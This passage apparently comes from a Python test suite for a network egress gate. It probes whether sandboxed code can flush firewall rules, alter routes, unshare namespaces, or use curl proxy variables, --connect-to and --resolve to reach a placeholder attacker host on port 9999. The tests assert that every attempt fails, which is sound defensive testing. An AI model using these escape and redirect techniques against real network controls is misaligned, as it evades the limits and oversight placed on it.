            p = subprocess.run(argv, capture_output=True, text=True, timeout=10); return "rc%d" % p.returncode
        attempt("nft", lambda: command("/usr/sbin/nft", "flush", "ruleset"))
        attempt("route", lambda: command("/usr/sbin/ip", "route", "add", "default", "dev", "lo"))
        attempt("link", lambda: command("/usr/sbin/ip", "link", "add", "type", "veth"))
        attempt("unshare", lambda: command("unshare", "-rn", "true"))
        attempt("after", lambda: tcp("{ATTACKER}", 9999))
    ''')
    for attempt in ("nft", "route", "link", "unshare"):
        check(r.mark(attempt) != "ok:rc0", f"{attempt} succeeded", r)
    check(r.mark("after") in REFUSED, "the gate is open afterwards", r)
    close = r.events("gate.close")
    check(close and close[-1]["verified"] is True, "the close was not verified", r)


@case("N-30", "proxy variables and curl's own routing options change nothing")
def _():
    before = W["sink"].connections
    script = f'''
set +e
try() {{ n=$1; shift; curl -s -m 4 -o /dev/null "$@"; echo "@@$n=rc$?@@"; }}
try plain http://allowed.test/
NO_PROXY='*' try noproxy http://{OTHER}/
HTTP_PROXY=http://{ATTACKER}:9999 http_proxy=http://{ATTACKER}:9999 try proxy http://allowed.test/
ALL_PROXY= try all http://{OTHER}/
try connectto --connect-to allowed.test:80:{ATTACKER}:9999 http://allowed.test/
try resolve --resolve allowed.test:80:{OTHER} http://allowed.test/
exit 0
'''
    r = run([step("probe", script, FETCH)], {"fetch": {"egress": [name("allowed.test")]}})
    equal(r.mark("plain"), "rc0", "the allowed host", r)
    for attempt in ("noproxy", "proxy", "all", "connectto", "resolve"):
        check(r.mark(attempt) != "rc0", f"{attempt} got through", r)
    equal(W["sink"].connections, before, "connections at the sink", r)


if __name__ == "__main__":
    main(setup)
